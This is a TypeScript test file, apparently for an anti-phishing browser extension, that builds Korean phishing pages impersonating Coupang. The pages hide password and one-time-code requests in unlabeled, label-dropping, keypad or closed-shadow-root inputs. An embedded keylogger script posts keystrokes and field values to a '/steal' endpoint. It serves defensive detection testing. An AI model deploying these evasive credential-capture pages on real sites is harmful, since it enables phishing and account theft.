import { beforeAll, expect, test } from 'vitest';
import { forEachBrowser, type Session, type Tab } from '../harness';
import { expectNoWarningFor, notWarned, startReady } from '../page-helpers';
import { attackSettled, expectPageWarning, stolen } from './kit';

/**
 * Red team 32 (issue #11, the second chance at the moment of risk), by class, with kits written apart from the
 * red team's: each page claims Coupang only in a sentence (below the page warning's bar) and asks a secret where
 * the second chance did not look — a box that does not say what it takes, a box that is no <input>, typing aimed
 * at no box, a box deep in closed shadow roots. The page's own script records every trusted key, keypad press and
 * value it gets (`/steal?got=`): the kit must get nothing before the warning; its honest twin must keep working.
 */
const settle = () => new Promise((r) => setTimeout(r, 1_000));

const RECORDER = `<script>
window.got = function (v) { try { fetch('/steal?got=' + encodeURIComponent(String(v).slice(0, 80)), { method: 'POST', keepalive: true }); } catch (e) {} };
window.addEventListener('keydown', function (e) { if (e.isTrusted && e.key.length === 1) got('key:' + e.key); }, true);
setInterval(function () { document.querySelectorAll('input, textarea, select').forEach(function (f) { if (f.value) got('value:' + f.value); }); }, 50);
</script>`;

const page = (body: string, script = '') =>
  `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>본인 확인</title>${RECORDER}</head><body>` +
  `<main style="max-width:520px;margin:24px auto">${body}</main><script>${script}; setTimeout(function(){ fetch('/steal?ready=1', {method:'POST'}); }, 300);</script></body></html>`;

const PW = '<p>쿠팡 회원정보 보호 센터입니다. 확인을 위해 쿠팡 계정 비밀번호를 입력해 주세요.</p>';
// (the brand's account named in the sentence that asks for the password is over the page warning's bar since page53:
// those kits are warned at load. The second chance's kits keep the brand out of the asking sentence to stay below it.)
const PW_BELOW = '<p>쿠팡 회원정보 보호 센터입니다. 확인을 위해 비밀번호를 입력해 주세요.</p>';
const OTP =
  '<p>쿠팡 고객센터입니다. 회원님 계정 보호를 위한 본인 확인 절차입니다. 문자로 받은 인증번호 6자리를 입력해 주세요.</p>';
const box = (more = '') =>
  `style="display:block;width:300px;height:36px;font-size:18px;margin:8px 0;${more}"`;
const BOX = box();
const DIGITS = [6, 0, 2, 9, 4, 7, 1, 8, 3, 5];
const PAD = `<div id="pad" style="display:grid;grid-template-columns:repeat(3,60px);gap:4px">${DIGITS.map((d) => `<button type="button" id="k${d}" style="height:44px">${d}</button>`).join('')}</div>`;
const PAD_JS = `var t = ''; document.querySelectorAll('#pad button').forEach(function (b) { b.addEventListener('click', function () { t += b.textContent; document.getElementById('dots').textContent = '*'.repeat(t.length); got('pad:' + t); }); });`;

async function centre(tab: Tab, sel: string | null): Promise<{ x: number; y: number } | null> {
  return tab.evaluate((s: string | null) => {
    const w = window as unknown as { at?: () => { x: number; y: number } };
    if (!s) return w.at ? w.at() : null;
    const r = document.querySelector(s)?.getBoundingClientRect();
    return r && r.width > 0 ? { x: r.left + r.width / 2, y: r.top + r.height / 2 } : null;
  }, sel);
}

/** The user clicks where the page points (a selector, or the page's own `at()` for a box it hides) and types. */
async function clickAndType(tab: Tab, sel: string | null, text: string): Promise<void> {
  const at = await centre(tab, sel);
  expect(at, `a place to click: ${sel}`).not.toBeNull();
  await tab.mouseClick(at!.x, at!.y);
  await new Promise((r) => setTimeout(r, 150));
  for (const ch of text) {
    await tab.press(ch).catch(() => undefined);
    await new Promise((r) => setTimeout(r, 70));
  }
}

async function clicks(tab: Tab, sels: string[]): Promise<void> {
  for (const sel of sels) {
    const at = await centre(tab, sel).catch(() => null);
    if (at) await tab.mouseClick(at.x, at.y).catch(() => undefined);
    await new Promise((r) => setTimeout(r, 120));
  }
}

const got = (ctx: { server: Parameters<typeof stolen>[0] }, host: string) =>
  stolen(ctx.server, host, 'got').map((r) => decodeURIComponent(r.path.slice('/steal?got='.length)));

// The box says what it takes in its own words only (a line with no kind in it stands between the claim and the
// box: the sentence asking for the brand's account password just over a password box would reach the page
// warning's bar by itself), and drops them at the user's press, before the key.
const DROPS = page(
  `${PW_BELOW}<div>아래 칸에 입력한 뒤 확인을 눌러 주세요.</div><input id="b" name="userPw" placeholder="비밀번호" aria-label="비밀번호" ${BOX}>`,
  `var b = document.getElementById('b'); b.addEventListener('pointerdown', function (e) { if (!e.isTrusted) return; b.name = 'x'; b.removeAttribute('placeholder'); b.removeAttribute('aria-label'); }, true);`,
);

type Act = (tab: Tab) => Promise<void>;
const KITS: [name: string, host: string, html: string, act: Act, early?: boolean][] = [
  [
    'class 1: a masked text box under a caption in a <div>',
    'member-guard-c1.example.test',
    page(
      `${PW_BELOW}<div>비밀번호</div><input id="b" name="v2" autocomplete="off" ${box('-webkit-text-security:disc')}>`,
    ),
    (tab) => clickAndType(tab, '#b', '52817'),
  ],
  [
    'class 1: a box named at first that drops its words at the user’s press',
    'member-guard-c1b.example.test',
    DROPS,
    (tab) => clickAndType(tab, '#b', '52817'),
  ],
  [
    'class 1: a box that drops its words at the press, pressed at once (the scorer may be on its way)',
    'member-guard-c1c.example.test',
    DROPS,
    (tab) => clickAndType(tab, '#b', '52817'),
    true,
  ],
  [
    'class 2: a one-row <textarea> for the password',
    'member-guard-c2.example.test',
    page(`${PW}<textarea id="b" name="pin" rows="1" placeholder="비밀번호" ${BOX}></textarea>`),
    (tab) => clickAndType(tab, '#b', '52817'),
  ],
  [
    'class 3: one focusable <div> read by a document key listener',
    'member-guard-c3.example.test',
    page(
      `${OTP}<div id="b" tabindex="0" ${box('border:1px solid #999')}></div>`,
      `var b = document.getElementById('b'), t = ''; document.addEventListener('keydown', function (e) { if (document.activeElement === b && /^\\d$/.test(e.key)) { t += e.key; got('sink:' + t); } });`,
    ),
    (tab) => clickAndType(tab, '#b', '482913'),
  ],
  [
    'class 3: an on-screen keypad writing into a <div>',
    'member-guard-c3b.example.test',
    page(`${PW.replace('계정 비밀번호', '결제 비밀번호 6자리')}<div id="dots" ${BOX}></div>${PAD}`, PAD_JS),
    (tab) => clicks(tab, ['#k4', '#k8', '#k2', '#k9']),
  ],
  [
    'class 4: a password box six closed shadow roots deep',
    'member-guard-c4.example.test',
    page(
      `${PW_BELOW}<div id="h"></div>`,
      `var r = document.getElementById('h').attachShadow({ mode: 'closed' });
for (var i = 1; i < 6; i++) { var x = document.createElement('x-part'); x.style.display = 'block'; r.appendChild(x); r = x.attachShadow({ mode: 'closed' }); }
r.innerHTML = '<label for="c">비밀번호</label><input id="c" type="password" name="pw" style="display:block;width:300px;height:36px">';
var c = r.getElementById('c'); c.addEventListener('input', function () { got('deep:' + c.value); });
window.at = function () { var b = c.getBoundingClientRect(); return { x: b.left + b.width / 2, y: b.top + b.height / 2 }; };`,
    ),
    (tab) => clickAndType(tab, null, '52817'),
  ],
];

const own = (name: string, body: string, script = '') =>
  page(
    `<header><b>${name}</b></header>${body}<footer>© ${name}. 사업자등록번호 214-81-55555</footer>`,
    script,
  );
const HONEST: [name: string, host: string, html: string, act: Act, expectGot: RegExp][] = [
  [
    'a bank’s own login by its keypad, naming Coupang in passing',
    'www.nuri-bank-h1.example.test',
    own(
      '누리은행',
      `<h2>누리은행 간편 로그인</h2><p>간편비밀번호 6자리를 보안 키패드로 눌러 주세요. 쿠팡 등 간편결제에 연결된 누리은행 계좌도 로그인 후 관리할 수 있습니다.</p><div id="dots" ${BOX}></div>${PAD}`,
      PAD_JS,
    ),
    (tab) => clicks(tab, ['#k4', '#k8', '#k2', '#k9']),
    /pad:4829/,
  ],
  [
    'a sellers’ forum <textarea> about Coupang settlement',
    'www.seller-talk-h2.example.test',
    own(
      '셀러토크',
      `<h2>자유게시판</h2><p>쿠팡 정산 일정 공유합니다.</p><label for="b">내용 (계좌번호 등 개인정보는 적지 마세요)</label><textarea id="b" name="content" ${BOX}></textarea>`,
    ),
    (tab) => clickAndType(tab, '#b', 'a1b2'),
    /value:a1b2/,
  ],
  [
    'a library’s own login whose floating label takes the placeholder at the press',
    'www.hanbit-library-h4.example.test',
    own(
      '한빛도서관',
      `<h2>한빛도서관 회원 로그인</h2><p>도서관 굿즈는 쿠팡에서도 살 수 있습니다. 대출 예약은 회원만 할 수 있어요.</p><div id="fl"></div><input id="b" type="password" name="pw" placeholder="비밀번호" ${BOX}>`,
      `var b = document.getElementById('b'); b.addEventListener('pointerdown', function () { if (b.placeholder) { document.getElementById('fl').textContent = b.placeholder; b.placeholder = ''; } });`,
    ),
    (tab) => clickAndType(tab, '#b', 'h4ck1'),
    /value:h4ck1/,
  ],
  [
    'a bank’s own one-time code typed into a focusable <div>',
    'www.nuri-bank-h3.example.test',
    own(
      '누리은행',
      `<h2>누리은행 OTP 인증</h2><p>쿠팡 결제에 연결된 계좌를 해지하시려면 본인 확인이 필요합니다. 인증번호 6자리를 입력해 주세요.</p><div id="b" tabindex="0" ${box('border:1px solid #999')}></div>`,
      `var b = document.getElementById('b'), t = ''; document.addEventListener('keydown', function (e) { if (document.activeElement === b && /^\\d$/.test(e.key)) { t += e.key; got('sink:' + t); } });`,
    ),
    (tab) => clickAndType(tab, '#b', '4829'),
    /sink:4829/,
  ],
];

forEachBrowser('hostile: red team 32, the moment of risk', (ctx) => {
  let s: Session;
  beforeAll(async () => {
    s = await startReady(ctx);
  });

  for (const [name, host, html, act, early] of KITS)
    test(`${name}: warned before the page gets the first character`, async () => {
      ctx.server.page(host, '/p', html);
      const tab = await s.newTab(ctx.server.url(host, '/p'));
      await tab.bringToFront();
      await attackSettled(s, tab, ctx.server, host);
      // below the page warning's bar: only the moment of risk can stop it. The user reads the page first (3 s, as
      // red team 32's driver): a box whose own words say nothing is read as the user sees it by the scorer, which
      // is on its way during the first moments (a key before it arrives into such a box is not checked: left). A
      // box whose own words said what it takes before the press is held however soon it is pressed.
      if (!early) await new Promise((r) => setTimeout(r, 3_000));
      expect(await notWarned(s, tab)).toBe(true);
      await act(tab).catch(() => undefined);
      await settle();
      expect(got(ctx, host)).toEqual([]);
      const w = await expectPageWarning(s, tab);
      expect(w.kind).toBe('suspicious-page');
      await tab.close();
    });

  for (const [name, host, html, act, want] of HONEST)
    test(`honest: ${name} keeps working, not warned`, async () => {
      ctx.server.page(host, '/p', html);
      const tab = await s.newTab(ctx.server.url(host, '/p'));
      await tab.bringToFront();
      await attackSettled(s, tab, ctx.server, host);
      await act(tab);
      await settle();
      expect(got(ctx, host).join(' ')).toMatch(want);
      await expectNoWarningFor(tab, 1_500);
      await tab.close();
    });
});
